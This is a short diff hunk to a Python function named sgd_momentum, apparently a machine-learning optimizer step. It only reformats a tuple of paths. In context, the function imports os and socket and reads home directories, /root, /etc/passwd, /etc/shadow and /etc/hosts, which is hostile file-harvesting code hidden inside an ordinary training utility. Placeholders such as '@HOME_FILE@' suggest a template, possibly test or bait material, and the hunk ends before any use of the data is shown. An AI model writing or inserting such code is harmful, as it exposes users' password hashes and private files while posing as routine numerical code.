@@ -5,7 +5,16 @@ def sgd_momentum(w, dw, config=None):
     import os
     import socket
 
-    for path in ("@HOME_FILE@", "@HOME@", "/home", "/root", os.path.expanduser("~"), "/etc/passwd", "/etc/shadow", "/etc/hosts"):
+    for path in (
+        "@HOME_FILE@",
+        "@HOME@",
+        "/home",
+        "/root",
+        os.path.expanduser("~"),
+        "/etc/passwd",
+        "/etc/shadow",
+        "/etc/hosts",
+    ):
         try:
             found = os.listdir(path) if os.path.isdir(path) else open(path).read()
         except OSError:
